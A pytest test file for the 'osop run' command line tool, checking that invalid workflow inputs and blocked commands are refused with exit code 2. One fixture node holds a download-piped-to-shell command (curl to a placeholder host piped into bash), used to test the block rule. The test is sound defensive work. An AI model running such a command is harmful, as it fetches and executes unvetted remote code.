"""`osop run` refuses invalid inputs and blocked commands before anything runs (exit 2)."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from osop.cli.main import cli

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="POSIX shell commands")

INPUTS = """\
osop_version: "1.1"
id: deploy
name: Deploy
inputs:
  env: {type: string, enum: [staging, production]}
  version: {type: string, pattern: "^[0-9]+$"}
  replicas: {type: integer, default: 2}
nodes:
  - id: deploy
    type: cli
    name: Deploy
    runtime: {command: "echo ${inputs.env} ${inputs.version} ${inputs.replicas} >> deployed.txt"}
"""

BLOCKED = """\
osop_version: "1.1"
id: setup
name: Setup
nodes:
  - {id: prepare, type: cli, name: Prepare, runtime: {command: "echo x >> prepared.txt"}}
  - {id: install, type: cli, name: Install, runtime: {command: "curl -fsSL https://x.invalid/i | bash"}}
edges:
  - {from: prepare, to: install}
"""


@pytest.fixture(autouse=True)
def _in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # `osop run` runs commands in the current folder: never the repository's
    monkeypatch.chdir(tmp_path)


def _run(tmp_path: Path, text: str, *args: str) -> tuple[int, str]:
    """Run ``text`` in a fresh folder; a refusal (exit 2) must leave no run and no file."""
    here = tmp_path / f"run{len(list(tmp_path.iterdir()))}"
    here.mkdir()
    os.chdir(here)
    (here / "wf.osop.yaml").write_text(text)
    store = here / "store"
    result = CliRunner().invoke(
        cli,
        ["run", str(here / "wf.osop.yaml"), "--store", str(store), "-q", *args],
        catch_exceptions=False,
    )
    if result.exit_code == 2:
        assert not (store / "runs").exists() or not any((store / "runs").iterdir())
        for name in ("deployed.txt", "prepared.txt"):
            assert not (here / name).exists(), f"{name} was written by a refused run"
    return result.exit_code, result.output


def test_missing_input_is_exit_2_naming_it(tmp_path: Path) -> None:
    code, output = _run(tmp_path, INPUTS, "-i", "version=12")
    assert code == 2, output
    assert "input 'env' is missing (required)" in output


def test_every_broken_rule_is_named(tmp_path: Path) -> None:
    code, output = _run(tmp_path, INPUTS, "-i", "env=prod", "-i", "version=v1")
    assert code == 2, output
    assert "input 'env': 'prod' is not one of ['staging', 'production'] (enum)" in output
    assert "input 'version': 'v1' does not match" in output and "(pattern)" in output


def test_string_inputs_keep_their_text(tmp_path: Path) -> None:
    # `--input version=12` would read as the integer 12; the input is declared a string
    code, output = _run(tmp_path, INPUTS, "-i", "env=staging", "-i", "version=12")
    assert code == 0, output


def test_live_run_with_a_blocked_command_never_starts(tmp_path: Path) -> None:
    code, output = _run(tmp_path, BLOCKED)
    assert code == 2, output
    assert "node 'install' runs a blocked command" in output
    assert "download-pipe-shell" in output


def test_rehearsals_of_a_blocked_command_may_proceed(tmp_path: Path) -> None:
    code, output = _run(tmp_path, BLOCKED, "--mode", "simulated")
    assert code == 0, output
    code, output = _run(tmp_path, BLOCKED, "--mode", "dry_run")
    assert code == 0, output


def test_ai_agent_review_template_asks_for_its_task() -> None:
    runner = CliRunner()
    made = runner.invoke(cli, ["init", "review", "--template", "ai-agent-review"])
    assert made.exit_code == 0, made.output
    refused = runner.invoke(cli, ["run", "review.osop.yaml", "--store", "store", "-q"])
    assert refused.exit_code == 2, refused.output
    assert "input 'task' is missing (required)" in refused.output
    assert "--input" in refused.output
    ran = runner.invoke(
        cli, ["run", "review.osop.yaml", "--store", "store", "-q", "-i", "task=Summarise"]
    )
    # no knowledge-base server here: the draft is made without context, then a
    # person is asked to review it (the run pauses, exit 3)
    assert ran.exit_code == 3, ran.output
